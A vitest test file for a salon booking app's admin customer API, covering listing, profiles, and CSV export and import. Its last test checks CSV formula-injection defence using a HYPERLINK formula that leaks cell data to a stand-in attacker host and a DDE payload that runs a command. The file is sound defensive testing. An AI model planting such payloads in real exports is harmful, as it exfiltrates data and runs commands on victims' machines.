import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from './helpers.ts';
import { createSalon, type Salon } from './salon-fixture.ts';

const clock = new Date('2026-11-23T07:00:00Z');
let t: TestApp;
let salon: Salon;
const admin = (
  method: 'GET' | 'POST' | 'PATCH',
  path: string,
  payload?: object | string,
  headers: Record<string, string> = {},
) =>
  t.app.inject({
    method,
    url: `/api/admin/shops/${salon.shopId}${path}`,
    headers: { cookie: salon.cookie, ...headers },
    ...(payload !== undefined ? { payload } : {}),
  });

let ada = '';
beforeAll(async () => {
  t = await createTestApp({ now: () => clock });
  salon = await createSalon(t.app, 'crm');
  ada = (
    await admin('POST', '/customers', {
      name: 'Ada Lovelace',
      email: 'ada@example.com',
      phone: '+44 20 7946 0000',
    })
  ).json().id;
  await admin('POST', '/customers', { name: 'Brian Brief', phone: '+4930555' });
  for (const [start, action] of [
    ['2026-11-17T10:00:00+01:00', 'complete'],
    ['2026-11-18T10:00:00+01:00', 'complete'],
    ['2026-11-19T10:00:00+01:00', 'no-show'],
  ] as const) {
    const booked = await admin('POST', '/appointments', {
      services: [salon.services.cut],
      start,
      stylist: salon.stylists[0]?.id,
      customerId: ada,
    });
    await admin('POST', `/appointments/${booked.json().id}/${action}`, {});
  }
});
afterAll(() => t.close());

describe('customers', () => {
  it('lists customers with visits, no-shows, spend and last visit, sorted and paged', async () => {
    const bySpend = (await admin('GET', '/customers?sort=-spend')).json();
    expect(bySpend.total).toBe(2);
    expect(bySpend.items[0]).toMatchObject({
      name: 'Ada Lovelace',
      visits: 2,
      noShows: 1,
      spend: 9000,
      lastVisit: '2026-11-18T10:00:00.000+01:00',
    });
    expect(bySpend.items[1]).toMatchObject({ name: 'Brian Brief', visits: 0, spend: 0, lastVisit: null });
    const paged = (await admin('GET', '/customers?sort=-name&pageSize=1&page=2')).json();
    expect(paged).toMatchObject({ total: 2, items: [{ name: 'Ada Lovelace' }] });
    expect(
      (await admin('GET', '/customers?q=brief')).json().items.map((c: { name: string }) => c.name),
    ).toEqual(['Brian Brief']);
    expect((await admin('GET', '/customers?sort=age')).json().error.details[0].path).toBe('query.sort');
  });

  it('shows a profile with history, and keeps birthday and notes', async () => {
    const updated = await admin('PATCH', `/customers/${ada}`, {
      birthday: '1815-12-10',
      note: 'Prefers Ana',
    });
    expect(updated.statusCode, updated.body).toBe(200);
    const profile = updated.json();
    expect(profile).toMatchObject({ birthday: '1815-12-10', note: 'Prefers Ana', visits: 2 });
    expect(profile.history.map((a: { status: string }) => a.status)).toEqual([
      'no_show',
      'completed',
      'completed',
    ]);
    expect(
      (await admin('PATCH', `/customers/${ada}`, { birthday: '1815-13-40' })).json().error.details[0].path,
    ).toBe('body.birthday');
  });

  it('exports CSV and imports it back, reporting bad rows by line', async () => {
    const csv = await admin('GET', '/customers/export.csv');
    expect(csv.headers['content-type']).toContain('text/csv');
    const lines = csv.body.split('\r\n');
    expect(lines[0]).toBe('\uFEFFname,email,phone,birthday,note,visits,no_shows,spend (EUR),last_visit');
    expect(lines[1]).toContain(
      "Ada Lovelace,ada@example.com,'+442079460000,1815-12-10,Prefers Ana,2,1,90.00",
    );

    const imported = await admin(
      'POST',
      '/customers/import',
      'name,email,phone,birthday\n"Lovelace, Ada",ada@example.com,,\nCora New,cora@example.com,+33 1 23 45 67 89,1990-02-03\n,nobody@example.com,,\nDan Bad,not-an-email,,\n',
      { 'content-type': 'text/csv' },
    );
    expect(imported.statusCode, imported.body).toBe(200);
    expect(imported.json()).toMatchObject({
      created: 1,
      updated: 1,
      errors: [
        { line: 4, message: expect.stringContaining('name') },
        { line: 5, message: expect.stringContaining('email') },
      ],
    });
    const all = (await admin('GET', '/customers')).json();
    expect(all.items.map((c: { name: string }) => c.name)).toEqual([
      'Brian Brief',
      'Cora New',
      'Lovelace, Ada',
    ]);
    const broken = await admin('POST', '/customers/import', 'name\n"unclosed', {
      'content-type': 'text/csv',
    });
    expect(broken.statusCode).toBe(400);
  });

  it('exports a formula typed by a guest as text, and imports it back as typed', async () => {
    const formula = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")';
    const booked = await t.app.inject({
      method: 'POST',
      url: `/api/public/shops/${salon.subdomain}/bookings`,
      payload: {
        services: [salon.services.cut],
        start: '2026-11-24T10:00:00+01:00',
        stylist: salon.stylists[0]?.id,
        customer: { name: formula, email: 'mallory@example.com', phone: '+4930123456' },
      },
    });
    expect(booked.statusCode, booked.body).toBe(201);
    await admin('PATCH', `/customers/${ada}`, { note: '@SUM(1+1)*cmd|" /C calc"!A0' });

    const csv = (await admin('GET', '/customers/export.csv')).body;
    const records: string[][] = parse(csv, { bom: true });
    const cells = records.slice(1).flat();
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(cells).toContain("'+4930123456");
    // Nothing a spreadsheet would evaluate is left at the start of any cell.
    for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);

    const back = await admin('POST', '/customers/import', csv, { 'content-type': 'text/csv' });
    expect(back.json().errors).toEqual([]);
    const mallory = (await admin('GET', '/customers?q=mallory')).json().items[0];
    expect(mallory).toMatchObject({ name: formula, phone: '+4930123456' });
  });
});
